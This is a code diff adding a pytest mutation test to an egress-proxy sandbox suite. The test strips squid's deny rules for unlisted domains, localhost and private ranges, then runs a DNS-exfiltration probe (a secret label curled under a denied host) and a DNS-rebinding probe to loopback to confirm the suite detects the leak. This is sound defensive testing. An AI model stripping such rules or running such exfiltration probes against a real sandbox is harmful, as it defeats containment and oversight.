@@ -15,6 +15,7 @@ import socket
 import subprocess
 import threading
 from collections.abc import Iterator
+from pathlib import Path
 
 import pytest
 from egress_session import MODES, Sandbox, open_sandbox
@@ -325,3 +326,49 @@ def test_allow_takes_effect_without_restarting_the_agent(box: Sandbox, session: 
     )
     assert json.loads(box.podman("inspect", agent).stdout)[0]["State"]["StartedAt"] == started
     assert "codes 000 403" in curl(box, session, f"https://{DENIED}/").stdout
+
+
+def test_probes_catch_a_weakened_proxy(box: Sandbox) -> None:
+    """Mutation check of the suite itself: with the rule that refuses unlisted
+    names before any lookup removed, the DNS-exfiltration probe sees the leak;
+    with the destination-range rules removed, the rebinding probe does."""
+    name = box.start(
+        "--allow-domain",
+        ALLOWED,
+        "--allow-domain",
+        box.net.subnet,
+        "--allow-domain",
+        "rebind-loopback.example.org",
+    )
+    proxy = f"paude-{name}-proxy"
+    conf = next(
+        Path(m["Source"])
+        for m in json.loads(box.podman("inspect", proxy).stdout)[0]["Mounts"]
+        if m["Destination"] == "/etc/squid/paude/squid.conf"
+    )
+    original = conf.read_text()
+    weakened = [
+        line
+        for line in original.splitlines()
+        if line
+        not in (
+            "http_access deny !allowed_domains",
+            "http_access deny to_localhost",
+            "http_access deny never_ranges",
+        )
+    ]
+    with conf.open("r+") as handle:  # in place: the bind mount keeps the inode
+        handle.truncate(0)
+        handle.write("\n".join(weakened) + "\n")
+    box.podman("kill", "--signal", "HUP", proxy)
+    secret = random_name("leak")
+    wait_for(
+        "the weakened proxy to look the name up",
+        lambda: (
+            curl(box, name, f"http://{secret}.{DENIED}/") is not None
+            and any(secret in q for q in box.net.dns_queries())
+        ),
+        deadline=30,
+    )
+    rebound = curl(box, name, "http://rebind-loopback.example.org/")
+    assert "codes 403" not in rebound.stdout, rebound  # squid tried 127.0.0.1:80
